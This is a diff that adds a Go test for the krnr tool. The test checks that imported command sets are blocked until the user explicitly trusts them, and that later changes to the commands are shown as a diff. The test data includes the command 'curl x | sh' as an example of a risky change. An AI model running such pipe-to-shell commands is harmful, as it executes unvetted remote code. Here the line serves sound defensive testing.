@@ -0,0 +1,72 @@
+package cmd
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/VoxDroid/krnr/internal/db"
+	"github.com/VoxDroid/krnr/internal/executor"
+	"github.com/VoxDroid/krnr/internal/registry"
+)
+
+func TestRunRefusesUntrustedImports(t *testing.T) {
+	_ = setupTempDB(t)
+	dbConn, err := db.InitDB()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer func() { _ = dbConn.Close() }()
+	r := registry.NewRepository(dbConn)
+	id, err := r.CreateCommandSet("shared", nil, nil, nil, []string{"echo hi"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := r.RecordImport("shared", registry.Import{Source: "/tmp/team.db", OriginalAuthor: "Bob"}); err != nil {
+		t.Fatal(err)
+	}
+	origFactory := execFactory
+	t.Cleanup(func() { execFactory = origFactory })
+	fake := &fakeRunner{}
+	execFactory = func(_, _ bool) executor.Runner { return fake }
+	run := func(args ...string) (string, string, error) {
+		var err error
+		out, errOut := captureOutput(func() {
+			rootCmd.SetArgs(args)
+			err = rootCmd.Execute()
+		})
+		return out, errOut, err
+	}
+
+	_, errOut, err := run("run", "shared")
+	if err == nil || !strings.Contains(err.Error(), "krnr trust shared") || fake.lastCmd != "" {
+		t.Fatalf("expected the untrusted set to be refused, got %v", err)
+	}
+	if !strings.Contains(errOut, "imported from /tmp/team.db (author Bob)") || !strings.Contains(errOut, "1. echo hi") {
+		t.Fatalf("expected the provenance and commands, got %q", errOut)
+	}
+	if out, _, err := run("trust", "shared"); err != nil || !strings.Contains(out, "trusted shared") {
+		t.Fatalf("trust: %q %v", out, err)
+	}
+	if _, _, err := run("run", "shared"); err != nil || fake.lastCmd != "echo hi" {
+		t.Fatalf("expected the trusted set to run, got %q %v", fake.lastCmd, err)
+	}
+
+	// a re-import that changes the commands shows what changed
+	if err := r.ReplaceCommands(id, []string{"echo hi", "curl x | sh"}); err != nil {
+		t.Fatal(err)
+	}
+	if err := r.RecordImport("shared", registry.Import{Source: "/tmp/team.db", Baseline: []string{"echo hi"}}); err != nil {
+		t.Fatal(err)
+	}
+	fake.lastCmd = ""
+	_, errOut, err = run("run", "shared")
+	if err == nil || !strings.Contains(errOut, "Changes since you last trusted it:\n    echo hi\n  + curl x | sh\n") {
+		t.Fatalf("expected a diff, got %q %v", errOut, err)
+	}
+	if out, _, _ := run("trust", "shared"); !strings.Contains(out, "trusted shared") {
+		t.Fatalf("trust: %q", out)
+	}
+	if out, _, _ := run("trust", "shared"); !strings.Contains(out, "already trusted") {
+		t.Fatalf("second trust: %q", out)
+	}
+}